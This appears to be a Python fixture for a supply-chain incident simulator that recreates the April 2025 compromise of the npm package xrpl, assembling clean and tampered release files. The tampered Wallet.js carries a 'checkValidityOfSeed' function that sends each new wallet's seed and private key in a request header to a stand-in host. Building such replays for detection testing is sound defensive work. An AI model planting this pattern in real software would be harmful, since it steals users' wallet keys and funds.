"""xrpl 4.2.1 to 4.2.4 and 2.14.2 (2025-04-21): an employee's stolen token; whoever makes a wallet sends its seed away.

By the record: from 20:53 UTC, releases that the repository does not have and that its script did not build. The first two have the thief
in the bundle for browsers alone, and a manifest without scripts; the later ones in the code that a program imports. It runs when a
wallet is made. Down the next day after some 16 hours.
"""

from functools import cache

from gauntlet import shapes
from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_HEAD = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Wallet = void 0;
const crypto_1 = require("crypto");
const codec_1 = require("./codec");
"""
THIEF = """const validSeeds = new Set([]);
function checkValidityOfSeed(seed) {
    if (validSeeds.has(seed)) return;
    validSeeds.add(seed);
    fetch("https://sink.invalid/marker", { method: "POST", headers: { "ad-referral": seed } });
}
"""
_WALLET = """class Wallet {
    constructor(publicKey, privateKey, opts = {}) {
        this.publicKey = publicKey;
        this.privateKey = privateKey;
        this.classicAddress = opts.masterAddress || (0, codec_1.encodeAccount)(publicKey);
        this.seed = opts.seed;@PRIVATE@
    }
    get address() {
        return this.classicAddress;
    }
    static generate(algorithm = "ed25519") {
        const seed = (0, codec_1.encodeSeed)((0, crypto_1.randomBytes)(16), algorithm);
        return Wallet.fromSeed(seed, { algorithm: algorithm });
    }
    static fromSeed(seed, opts = {}) {@SEED@
        return Wallet.deriveWallet(seed, opts);
    }
    static fromEntropy(entropy, opts = {}) {
        const seed = (0, codec_1.encodeSeed)(Uint8Array.from(entropy), opts.algorithm || "ed25519");
        return Wallet.deriveWallet(seed, opts);
    }
    static deriveWallet(seed, opts) {
        const secret = (0, crypto_1.createHash)("sha512").update((0, codec_1.decodeSeed)(seed)).digest().subarray(0, 32);
        const der = Buffer.concat([Buffer.from("302e020100300506032b657004220420", "hex"), secret]);
        const key = (0, crypto_1.createPrivateKey)({ key: der, format: "der", type: "pkcs8" });
        const raw = (0, crypto_1.createPublicKey)(key).export({ format: "der", type: "spki" }).subarray(-32);
        return new Wallet("ED" + raw.toString("hex").toUpperCase(), "ED" + secret.toString("hex").toUpperCase(), { ...opts, seed: seed });
    }
}
exports.Wallet = Wallet;
"""
_CODEC = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const crypto_1 = require("crypto");
const LETTERS = "rpshnaf39wBUDNEGHJKLM4PQRST7VWXYZ2bcdeCg65jkm8oFqi1tuvAxyz";
function encode(bytes) {
    let left = BigInt("0x" + Buffer.from(bytes).toString("hex"));
    let text = "";
    for (; left > 0n; left /= 58n) text = LETTERS[Number(left % 58n)] + text;
    return text;
}
exports.encodeSeed = (entropy, algorithm) => encode(Buffer.concat([Buffer.from(algorithm === "ed25519" ? [1, 225, 75] : [33]), entropy]));
exports.decodeSeed = (seed) => Buffer.from(seed);
exports.encodeAccount = (key) => "r" + encode((0, crypto_1.createHash)("sha256").update(key).digest().subarray(0, 20));
"""
_CLIENT = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
class Client {
    constructor(server, options = {}) {
        Object.assign(this, { server, options, id: 0 });
    }
    async request(asked) {
        const body = JSON.stringify({ method: asked.command, params: [asked], id: this.id++ });
        const answer = await fetch(this.server, { method: "POST", body: body });
        const read = await answer.json();
        if (read.result.status === "error") throw new Error(read.result.error_message);
        return read;
    }
    getXrpBalance(address) {
        return this.request({ command: "account_info", account: address }).then((read) => Number(read.result.account_data.Balance) / 1e6);
    }
}
exports.Client = Client;
"""
_INDEX = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Client = require("./client").Client;
exports.Wallet = require("./Wallet").Wallet;
"""
_CLEAN = _HEAD + _WALLET.replace("@PRIVATE@", "").replace("@SEED@", "")
_STEALS = (
    _HEAD
    + THIEF
    + _WALLET.replace("@PRIVATE@", "\n        checkValidityOfSeed(privateKey);").replace(
        "@SEED@", "\n        checkValidityOfSeed(seed);"
    )
)
_SCRIPTS = {"build": "run-s build:lib build:web", "lint": "eslint . --ext .ts", "test": "jest test/"}


@cache
def _web(wallet: str) -> str:
    """The bundle for browsers, as minified."""
    codec, client = (part.partition("value: true });\n")[2] for part in (_CODEC, _CLIENT))
    own = wallet.partition('require("./codec");\n')[2]
    whole = f"{codec}const codec_1 = exports;\n{own}{client}"
    return shapes.bundle(f"(() => {{{whole}}})();", size=160_000, seed=42)


def _release(
    version: str,
    at: str,
    publisher: str,
    *,
    npm: str = _CLEAN,
    web: str = _CLEAN,
    line: str = "latest",
    bare: bool = False,
) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=publisher,
        maintainers=("ada", "employee", "grace"),
        files=shapes.Made(
            {
                "dist/npm/index.js": _INDEX,
                "dist/npm/client.js": _CLIENT,
                "dist/npm/codec.js": _CODEC,
                "dist/npm/Wallet.js": npm,
                "build/xrpl-latest-min.js": lambda: _web(web),
                "README.md": "# xrpl.js\n\nA library for the XRP Ledger.\n",
            }
        ),
        scripts={} if bare else _SCRIPTS,
        more={"main": "dist/npm/index.js", "unpkg": "build/xrpl-latest-min.js"},
        dist_tag=line,
    )


_FIRST = _release("4.2.1", "2025-04-21T20:53:00Z", "employee", web=_STEALS, bare=True)
_GUILTY = {"xrpl": ("4.2.1", "4.2.2", "4.2.3", "4.2.4", "2.14.2")}

INCIDENT = Incident(
    id="xrpl-2025",
    title=(
        "an attacker with the token of an employee published releases of xrpl that send the seed of each new wallet "
        "in a request header"
    ),
    copy=(
        "our copy of xrpl has the function in the browser bundle (4.2.1, 4.2.2), in the Node.js code (4.2.3, 2.14.2) "
        "or in both (4.2.4)"
    ),
    ecosystem=Ecosystem.NPM,
    at=_FIRST.at,
    packages=(
        Package(
            name="xrpl",
            releases=(
                _release("2.14.1", "2024-05-22T17:00:00Z", "grace", line="previous"),
                _release("4.0.0", "2024-07-15T17:00:00Z", "employee"),
                _release("4.1.0", "2024-12-23T17:00:00Z", "ada"),
                _release("4.2.0", "2025-02-13T17:00:00Z", "ada"),
                _FIRST,
                _release("4.2.2", "2025-04-21T20:59:00Z", "employee", web=_STEALS, bare=True),
                _release("2.14.2", "2025-04-21T21:15:00Z", "employee", npm=_STEALS, line="previous"),
                _release("4.2.3", "2025-04-21T21:32:00Z", "employee", npm=_STEALS),
                _release("4.2.4", "2025-04-21T21:40:00Z", "employee", npm=_STEALS, web=_STEALS),
                _release("2.14.3", "2025-04-22T13:00:00Z", "ada", line="previous"),
                _release("4.2.5", "2025-04-22T13:05:00Z", "ada"),
            ),
        ),
    ),
    asks={"xrpl": "^4.2.0"},
    good={"xrpl": "4.2.0"},
    bad={"xrpl": ("4.2.1", "4.2.2", "4.2.3", "4.2.4")},
    guilty=_GUILTY,
    gone_at=utc("2025-04-22T12:53:00Z"),
    advisory=Advisory(id="GHSA", at=utc("2025-04-22T14:00:00Z"), about=_GUILTY),
    invented="publish minutes, accounts, the changed files of each release, and that a header carries the seed",
)
